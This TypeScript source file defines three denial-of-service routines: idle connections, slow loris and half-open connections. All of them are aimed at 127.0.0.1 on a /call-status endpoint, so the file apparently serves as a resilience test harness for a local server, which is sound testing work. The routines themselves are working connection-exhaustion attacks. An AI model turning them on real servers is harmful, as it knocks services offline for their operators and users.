import type net from "node:net";

import { type Attack, newTally, open, repeat } from "./attack.ts";

const IDLE = 10_000;
const OPENED_A_SECOND = 2_500;
const LORISES = 500;
const HALF_OPEN_A_SECOND = 50;

/** Ten thousand connections on which nothing is ever said; one that is cut is opened again. */
export const idle: Attack = {
  name: "idle connections",
  async run(target, stopped) {
    const tally = newTally();
    let wanted = IDLE;
    await repeat(OPENED_A_SECOND, stopped, () => {
      if (wanted === 0) return;
      wanted -= 1;
      open(target, tally, stopped, { gone: () => (wanted += 1) });
    });
    return tally;
  },
};

/** Requests whose heads never end: one more header line a second on each. */
export const slowLoris: Attack = {
  name: "slow loris",
  async run(target, stopped) {
    const tally = newTally();
    const sockets = new Set<net.Socket>();
    const begin = () => {
      const socket = open(target, tally, stopped, {
        ready: () => {
          sockets.add(socket);
          socket.write("POST /call-status HTTP/1.1\r\nHost: 127.0.0.1\r\n");
        },
        gone: () => {
          sockets.delete(socket);
          begin();
        },
      });
    };
    for (let count = 0; count < LORISES; count += 1) begin();
    await repeat(1, stopped, () => {
      for (const socket of sockets) socket.write("X-Header: value\r\n");
    });
    return tally;
  },
};

/** Requests whose bodies were announced and never come; the sender has closed its half meanwhile. */
export const halfOpen: Attack = {
  name: "half-open connections",
  async run(target, stopped) {
    const tally = newTally();
    await repeat(HALF_OPEN_A_SECOND, stopped, () => {
      const socket = open(target, tally, stopped, {
        ready: () => {
          socket.end(
            "POST /call-status HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5000\r\n" +
              "Content-Type: application/x-www-form-urlencoded\r\n\r\nCallSid=",
          );
        },
      });
    });
    return tally;
  },
};
